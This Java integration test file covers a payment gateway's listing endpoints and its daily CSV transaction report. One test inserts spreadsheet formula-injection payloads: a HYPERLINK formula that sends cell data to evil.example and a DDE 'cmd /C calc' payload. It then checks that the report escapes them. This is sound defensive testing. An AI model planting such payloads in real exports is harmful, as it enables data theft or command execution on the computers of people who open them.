package io.paygate.payment.reporting;

import io.paygate.kit.rest.ListQuery;
import com.fasterxml.jackson.databind.JsonNode;
import io.agroal.api.AgroalDataSource;
import io.paygate.model.event.Topics;
import io.paygate.model.json.Json;
import io.paygate.model.status.DisbursementStatus;
import io.paygate.model.api.payment.PaymentMethod;
import io.paygate.model.status.PaymentStatus;
import io.paygate.payment.support.Db;
import io.paygate.payment.support.Methods;
import io.paygate.payment.support.PaymentApi;
import io.paygate.payment.support.PaymentTestResources;
import io.paygate.payment.support.Refunds;
import io.paygate.payment.support.Requests;
import io.paygate.testsupport.SandboxMerchants;
import io.paygate.testsupport.quarkus.KafkaResource;
import io.paygate.testsupport.rest.MerchantSigningFilter;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.StringReader;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Lists and the daily report (docs/contract.md §3b): the merchant's own, newest first, keyset pages, indexed queries. */
@QuarkusTest
@PaymentTestResources
class ListsAndReportTest {

    @Inject
    AgroalDataSource dataSource;

    @BeforeAll
    static void topics() {
        KafkaResource.broker().createTopics(Topics.PAYMENT_STATUS, Topics.DISBURSEMENT_STATUS);
    }

    @Test
    void paymentsAreListedNewestFirstPageByPageAndOnlyTheMerchantsOwn() {
        // From now, not a second ago: the second before can hold this class's other tests' payments of the same
        // merchant (a CAPTURED one failed this test once initiation got faster, issue 36); the clock is this JVM's
        Instant from = Instant.now();
        List<String> mine = new ArrayList<>();
        for (int i = 0; i < 7; i++) {
            String orderId = Requests.orderId();
            PaymentApi.newPayment(orderId);
            mine.add(0, orderId);
        }
        PaymentApi.initiate(SandboxMerchants.DEMO2, Json.write(Requests.minimal(Requests.orderId()))).then()
                .statusCode(200);
        List<String> seen = new ArrayList<>();
        String cursor = null;
        int pages = 0;
        do {
            JsonNode page = list("/pg/payments", "from=" + iso(from) + "&limit=3"
                    + (cursor == null ? "" : "&cursor=" + cursor));
            assertEquals("2000000", page.path("responseCode").asText());
            page.path("items").forEach(item -> {
                seen.add(item.at("/order/id").asText());
                assertTrue(item.path("responseCode").isMissingNode(), "items carry no responseCode");
                assertEquals("PENDING", item.at("/result/payment/status").asText());
            });
            cursor = page.path("nextCursor").isMissingNode() ? null : page.path("nextCursor").asText();
            pages++;
        } while (cursor != null && pages < 10);
        assertEquals(mine, seen, "newest first, every one once, none of demo2's");
        assertEquals(3, pages);
    }

    @Test
    void filtersNarrowTheList() {
        String captured = Requests.orderId();
        Refunds.capturedByCard(captured);
        String va = Requests.orderId();
        PaymentApi.initiate(Methods.preselecting(va, "VA_BCA")).then().statusCode(200);
        JsonNode byStatus = list("/pg/payments", "status=CAPTURED&limit=200");
        assertTrue(ids(byStatus).contains(captured));
        assertFalse(ids(byStatus).contains(va));
        JsonNode byMethod = list("/pg/payments", "method=va_bca&limit=200");
        assertTrue(ids(byMethod).contains(va));
        assertFalse(ids(byMethod).contains(captured));
        JsonNode future = list("/pg/payments", "from=" + iso(Instant.now().plusSeconds(3600)));
        assertEquals(0, future.path("items").size());
        assertTrue(future.path("nextCursor").isMissingNode());
    }

    @Test
    void refundsAndTransfersAreListedToo() {
        String orderId = Requests.orderId();
        Refunds.capturedByCard(orderId);
        String refundId = "RF-" + UUID.randomUUID();
        Refunds.refund(SandboxMerchants.DEMO, orderId, refundId, "1000").then().statusCode(200);
        JsonNode refunds = list("/pg/payment/card/refunds", "orderId=" + orderId);
        assertEquals(1, refunds.path("items").size());
        assertEquals(refundId, refunds.at("/items/0/refundId").asText());
        assertEquals(0, list("/pg/payment/card/refunds", "orderId=NOPE").path("items").size());

        String partnerRef = "TRF-" + UUID.randomUUID();
        given().filter(MerchantSigningFilter.as(SandboxMerchants.DEMO)).contentType("application/json").body("""
                {"partnerReferenceNo":"%s","beneficiaryBankCode":"014","beneficiaryAccountName":"Siti Rahayu",\
                "beneficiaryAccountNo":"1234567890","amount":{"value":"250000.00","currency":"IDR"}}"""
                .formatted(partnerRef)).post("/pg/disbursement/transfer").then().statusCode(200);
        JsonNode transfers = list("/pg/disbursements", "limit=200");
        assertEquals(partnerRef, transfers.at("/items/0/partnerReferenceNo").asText());
        assertEquals(0, list("/pg/disbursements", "status=06&from=" + iso(Instant.now().minusSeconds(5)))
                .path("items").size());
    }

    @Test
    void badFiltersAndForeignOrTamperedCursorsAreRefused() {
        for (int i = 0; i < 3; i++) {
            PaymentApi.newPayment(Requests.orderId());
        }
        String cursor = list("/pg/payments", "limit=1").path("nextCursor").asText();
        assertFalse(cursor.isEmpty());
        refused("/pg/payments", "cursor=" + cursor.substring(0, cursor.length() - 2) + "AA", "cursor");
        refused("/pg/payments", "cursor=not-a-cursor", "cursor");
        refused("/pg/disbursements", "cursor=" + cursor, "cursor");
        Refunds.get(SandboxMerchants.DEMO2, "/pg/payments", "cursor=" + cursor).then().statusCode(400)
                .body("responseMessage", equalTo("Invalid Field Format cursor"));
        refused("/pg/payments", "limit=0", "limit");
        refused("/pg/payments", "limit=201", "limit");
        refused("/pg/payments", "limit=ten", "limit");
        refused("/pg/payments", "status=PAID", "status");
        refused("/pg/payments", "method=BITCOIN", "method");
        refused("/pg/payments", "from=yesterday", "from");
        refused("/pg/payments", "from=2026-11-21T10:00:00", "from");
        refused("/pg/payments", "from=2026-11-21T10:00:00%2B07:00&to=2026-11-21T09:00:00%2B07:00", "to");
        refused("/pg/disbursements", "status=99", "status");
        refused("/pg/payment/card/refunds", "orderId=a%20b", "orderId");
        given().get("/pg/payments").then().statusCode(401);
    }

    /** Issue 31: a far year overflowed the timestamp and answered 500. */
    @Test
    void listDatesOutsideTheYears2000To9999AsWrittenAreRefusedNamingTheField() {
        List<String> outside = List.of("-999999999-01-01T00:00:00%2B00:00", "%2B999999999-12-31T23:59:59%2B00:00",
                "%2B10000-01-01T00:00:00%2B00:00", "-0001-01-01T00:00:00Z", "0000-01-01T00:00:00Z",
                "1999-12-31T23:59:59Z", "1999-12-31T23:30:00-01:00");
        for (String list : List.of("/pg/payments", "/pg/payment/card/refunds", "/pg/disbursements")) {
            for (String value : outside) {
                refused(list, "from=" + value, "from");
                refused(list, "to=" + value, "to");
            }
            refused(list, "from=2026-01-01T00:00:00Z&to=%2B10000-01-01T00:00:00Z", "to");
            list(list, "from=2000-01-01T00:00:00Z&to=9999-12-31T23:59:59-05:00");
            list(list, "to=2000-01-01T00:00:00%2B14:00");
        }
    }

    @Test
    void theDailyReportListsTheDaysMoneyMovementsAndNothingElse() throws Exception {
        String orderId = Requests.orderId();
        String code = Refunds.capturedByCard(orderId);
        String refundId = "RF-" + UUID.randomUUID();
        Refunds.refund(SandboxMerchants.DEMO, orderId, refundId, "50000.00").then().statusCode(200);
        String other = Requests.orderId();
        String otherCode = PaymentApi.initiate(SandboxMerchants.DEMO2, Json.write(Requests.minimal(other))).then()
                .extract().path("paymentCode");
        PaymentApi.payByCard(otherCode, "4111 1111 1111 1111").then().statusCode(303);
        String today = LocalDate.now(ZoneId.of("Asia/Jakarta")).toString();

        String csv = Refunds.get(SandboxMerchants.DEMO, "/pg/reports/transactions", "date=" + today).then()
                .statusCode(200).contentType("text/csv").header("Cache-Control", "no-store").extract().asString();
        List<CSVRecord> rows;
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            assertEquals(List.of("time", "kind", "orderId", "reference", "method", "amount", "currency", "status"),
                    parser.getHeaderNames());
            rows = parser.getRecords();
        }
        CSVRecord capture = rows.stream().filter(r -> r.get("reference").equals(code)).findFirst().orElseThrow();
        assertEquals("PAYMENT_CAPTURED", capture.get("kind"));
        assertEquals(orderId, capture.get("orderId"));
        assertEquals("CARD", capture.get("method"));
        assertEquals("150000.00", capture.get("amount"));
        assertTrue(capture.get("time").startsWith(today) && capture.get("time").endsWith("+07:00"), capture.get("time"));
        CSVRecord refund = rows.stream().filter(r -> r.get("reference").equals(refundId)).findFirst().orElseThrow();
        assertEquals("REFUND_SUCCEEDED", refund.get("kind"));
        assertEquals("50000.00", refund.get("amount"));
        assertTrue(rows.stream().noneMatch(r -> r.get("orderId").equals(other)), "never another merchant's");

        String yesterday = LocalDate.now(ZoneId.of("Asia/Jakarta")).minusDays(1).toString();
        String empty = Refunds.get(SandboxMerchants.DEMO, "/pg/reports/transactions", "date=" + yesterday).then()
                .statusCode(200).extract().asString();
        assertEquals("time,kind,orderId,reference,method,amount,currency,status", empty.strip());
    }

    /** Issue 31: a partnerReferenceNo, bank code or order id that a spreadsheet would run landed in the report as is. */
    @Test
    void reportCellsThatWouldBeFormulasStartWithAQuoteInEveryColumn() throws Exception {
        // demo2's: the lists' tests of demo count demo's payments of the last second.
        String orderId = "-2-3-" + UUID.randomUUID().toString().substring(0, 8);
        String code = PaymentApi.initiate(SandboxMerchants.DEMO2, Json.write(Requests.minimal(orderId))).then()
                .statusCode(200).extract().path("paymentCode");
        PaymentApi.payByCard(code, "4111 1111 1111 1111").then().statusCode(303);
        await().atMost(java.time.Duration.ofSeconds(20)).untilAsserted(() -> PaymentApi.status(SandboxMerchants.DEMO2,
                orderId).then().statusCode(200).body("result.payment.status", equalTo("CAPTURED")));
        String tag = UUID.randomUUID().toString().substring(0, 8);
        List<List<String>> nasty = List.of(
                List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" + tag, "+1+cmd|' /C calc'!A0" + tag,
                        "@SUM(1+1)", "-1", "\t=1+1"),
                List.of("\t=1+1;" + tag, "\r=1+1;" + tag, "=1,\"2\"", "@1", "+CAPTURED"),
                List.of("@SUM(A1:A9)" + tag, "-" + tag, "-9", "=1", "\r=1+1"));
        Db db = new Db(dataSource);
        for (List<String> row : nasty) {
            db.update("""
                    INSERT INTO money_movement (merchant_id, occurred_at, kind, order_id, reference, method, amount,
                        currency, status)
                    VALUES ('demo2', now(), 'DISBURSEMENT_PAID', ?, ?, ?, 10.00, ?, ?)""",
                    row.get(0), row.get(1), row.get(2), row.get(3), row.get(4));
        }
        String today = LocalDate.now(ZoneId.of("Asia/Jakarta")).toString();

        String csv = Refunds.get(SandboxMerchants.DEMO2, "/pg/reports/transactions", "date=" + today).then()
                .statusCode(200).extract().asString();
        List<CSVRecord> rows;
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            rows = parser.getRecords();
        }
        CSVRecord capture = rows.stream().filter(r -> r.get("reference").equals(code)).findFirst().orElseThrow();
        assertEquals("'" + orderId, capture.get("orderId"), "an allowed order id that reads as a formula");
        assertEquals("CARD", capture.get("method"));
        assertEquals("150000.00", capture.get("amount"), "numbers stay numbers");
        for (List<String> row : nasty) {
            CSVRecord written = rows.stream().filter(r -> r.get("reference").equals("'" + row.get(1))).findFirst()
                    .orElseThrow(() -> new AssertionError("no row for " + row + " in\n" + csv));
            assertEquals(List.of("'" + row.get(0), "'" + row.get(1), "'" + row.get(2), "'" + row.get(3),
                            "'" + row.get(4)),
                    List.of(written.get("orderId"), written.get("reference"), written.get("method"),
                            written.get("currency"), written.get("status")));
        }
        assertTrue(csv.contains(",\"'=1,\"\"2\"\"\","), "RFC 4180 quoting after the quote: " + csv);
        for (CSVRecord row : rows) {
            for (String cell : row.values()) {
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a formula cell: " + cell);
            }
        }
    }

    @Test
    void aReportDateThatIsNotADateIsRefused() {
        refused("/pg/reports/transactions", "date=2026-02-30", "date");
        refused("/pg/reports/transactions", "date=21-11-2026", "date");
        refused("/pg/reports/transactions", "date=today", "date");
        Refunds.get(SandboxMerchants.DEMO, "/pg/reports/transactions", "").then().statusCode(400)
                .body("responseCode", equalTo("4001002"))
                .body("responseMessage", equalTo("Invalid Mandatory Field date"));
    }

    @Test
    void everyListIsServedByItsIndex() throws Exception {
        Db db = new Db(dataSource);
        db.update("""
                INSERT INTO payment (id, payment_code, merchant_id, order_id, content_hash, amount, currency, customer,
                    callback_url, status, method, expires_at, link_expires_at, created_at, updated_at)
                SELECT gen_random_uuid(), 'PCX' || i, 'bulk' || (i % 20), 'BULK-' || i, 'h', 10, 'IDR', '{}',
                    'https://m.example/cb', CASE WHEN i % 10 = 0 THEN 'CAPTURED' ELSE 'PENDING' END, 'QRIS',
                    now(), now(), now() - make_interval(secs => i), now()
                FROM generate_series(1, 20000) i""");
        db.update("""
                INSERT INTO refund (id, merchant_id, refund_id, payment_id, order_id, payment_code, amount, currency,
                    content_hash, status, channel, method, charge_reference, provider_reference, created_at,
                    updated_at)
                SELECT gen_random_uuid(), merchant_id, 'R-' || order_id, id, order_id, payment_code, 1, 'IDR', 'h',
                    'SUCCEEDED', 'sandbox', 'QRIS', 'CHGX' || payment_code, 'RFDX' || payment_code, created_at,
                    created_at
                FROM payment WHERE merchant_id LIKE 'bulk%'""");
        db.update("""
                INSERT INTO disbursement (reference_no, merchant_id, partner_reference_no, content_hash,
                    beneficiary_bank_code, beneficiary_account_name, beneficiary_account_no, amount, currency, status,
                    transaction_date, transfer_date_time)
                SELECT 'DSBX' || i, 'bulk' || (i % 20), 'P-' || i, 'h', '014', 'N', '1', 10, 'IDR', '00',
                    now() - make_interval(secs => i), now()
                FROM generate_series(1, 20000) i""");
        Cursors.Position after = new Cursors.Position(Instant.now().minusSeconds(100), UUID.randomUUID().toString());
        ListQuery query = ListQuery.of("2000-01-01T00:00:00Z", null, "50");
        assertIndex(PaymentLists.paymentsQuery("bulk3", null, null, query, after), "payment_merchant_listed");
        assertIndex(PaymentLists.paymentsQuery("bulk3", PaymentStatus.CAPTURED, null, query, after),
                "payment_merchant_status_listed");
        assertIndex(PaymentLists.paymentsQuery("bulk3", null, PaymentMethod.OVO, query, after),
                "payment_merchant_method_listed");
        assertIndex(PaymentLists.refundsQuery("bulk3", null, query, after), "refund_merchant_listed");
        assertIndex(PaymentLists.refundsQuery("bulk3", "BULK-63", query, after), "refund_merchant_order_listed");
        assertIndex(DisbursementList.query("bulk3", DisbursementStatus.SUCCESS, query,
                new Cursors.Position(Instant.now(), "DSBX9")), "disbursement_merchant_listed");
    }

    private void assertIndex(Keyset keyset, String index) throws Exception {
        List<String> plan = new ArrayList<>();
        try (Connection c = dataSource.getConnection()) {
            try (Statement st = c.createStatement()) {
                st.execute("ANALYZE payment");
                st.execute("ANALYZE disbursement");
                st.execute("ANALYZE refund");
            }
            try (PreparedStatement explain = c.prepareStatement("EXPLAIN " + keyset.sql(50))) {
                List<Object> params = keyset.params();
                for (int i = 0; i < params.size(); i++) {
                    Object p = params.get(i);
                    explain.setObject(i + 1, p instanceof Instant t ? java.sql.Timestamp.from(t) : p);
                }
                try (ResultSet rs = explain.executeQuery()) {
                    while (rs.next()) {
                        plan.add(rs.getString(1));
                    }
                }
            }
        }
        String text = String.join("\n", plan);
        assertTrue(text.contains("Index Scan using " + index) || text.contains("Index Scan Backward using " + index),
                text);
        assertFalse(text.contains("Seq Scan"), text);
        assertFalse(text.contains("Sort"), "rows come in index order: " + text);
    }

    private static JsonNode list(String path, String query) {
        return Json.tree(Refunds.get(SandboxMerchants.DEMO, path, query).then().statusCode(200).extract().asString());
    }

    private static void refused(String path, String query, String field) {
        Refunds.get(SandboxMerchants.DEMO, path, query).then().statusCode(400)
                .body("responseCode", equalTo("4001001"))
                .body("responseMessage", equalTo("Invalid Field Format " + field));
    }

    private static Set<String> ids(JsonNode page) {
        Set<String> ids = new HashSet<>();
        page.path("items").forEach(item -> ids.add(item.at("/order/id").asText()));
        return ids;
    }

    private static String iso(Instant instant) {
        return instant.toString().replace("+", "%2B");
    }
}
